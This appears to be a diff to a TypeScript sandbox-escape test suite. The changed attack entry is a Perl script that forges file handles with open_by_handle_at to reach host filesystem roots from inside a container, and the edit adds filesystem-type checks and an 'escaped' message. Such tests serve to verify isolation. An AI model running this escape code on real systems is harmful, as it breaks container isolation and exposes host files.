@@ -51,12 +51,13 @@ export const files: readonly Attack[] = [
     script: perl(`
       # Number 2 is the root folder of an ext4, 128 or 64 that of an xfs, 256 that of a btrfs.
       open my $list, '<', '/proc/self/mountinfo'; my %seen;
-      for my $mount (grep { !$seen{$_}++ } map { (split / /)[4] } <$list>) {
+      for (<$list>) {
+        my ($mount, $type) = /^(?:\\S+ ){4}(\\S+) .* - (\\S+)/ or next; next if $seen{$mount}++;
         open my $inside, '<', $mount or next;
         for my $root (2, 128, 64, 256) {
           my $handle = pack('LlLL', 8, 1, $root, 0); my $folder = call('open_by_handle_at', fileno $inside, $handle, 0);
           next if $folder == -1;
-          verdict("root folder $root of $mount", $folder);
+          print "escaped: root folder $root of $mount\\n" if $type =~ /^(ext.|xfs|btrfs)$/;
           if (open my $file, '<', "/proc/self/fd/$folder$ENV{MARKER}") { print <$file> }
         }
       }
